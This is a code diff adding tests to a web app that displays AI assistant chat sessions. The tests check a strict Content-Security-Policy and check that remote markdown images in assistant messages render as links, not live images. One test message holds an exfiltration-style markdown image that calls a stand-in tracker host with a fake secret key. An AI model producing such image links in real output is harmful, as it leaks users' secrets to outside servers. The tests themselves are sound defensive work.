@@ -193,3 +193,20 @@ def test_entries_with_unusual_ids_render_and_open(client, sessions_dir) -> None:
     assert client.get(f"/s/{session.session_id}/e/a%20b%3F%23%3Cx%3E/").status_code == 200
     response = client.post(f"/s/{session.session_id}/navigate/", {"to": "with/slash", "mode": "exact"}, HTTP_HX_REQUEST="true")
     assert response.status_code == 200 and response["HX-Push-Url"] == f"/s/{session.session_id}/"
+
+
+def test_pages_carry_a_content_security_policy_that_allows_no_foreign_loads(client, pi) -> None:
+    policy = client.get("/")["Content-Security-Policy"]
+    assert "script-src 'self'" in policy and "img-src 'self' data:" in policy and "unsafe-eval" not in policy
+
+
+def test_remote_markdown_images_become_links_and_inline_ones_show(client, sessions_dir) -> None:
+    from sessions_app.sessionfiles import entries as E
+    from sessions_app.sessionfiles.fork import create_session
+
+    session = create_session(sessions_dir, "/w", fsync=False)
+    text = "![leak](https://tracker.invalid/p.png?key=sk-secret) ![dot](data:image/png;base64,iVBORw0KGgo=)"
+    session.append(E.assistant_message(text, provider="p", model="m", api="a"))
+    html = client.get(f"/s/{session.session_id}/").content.decode()
+    assert '<img src="https://' not in html and "[image: leak]</a>" in html
+    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"' in html
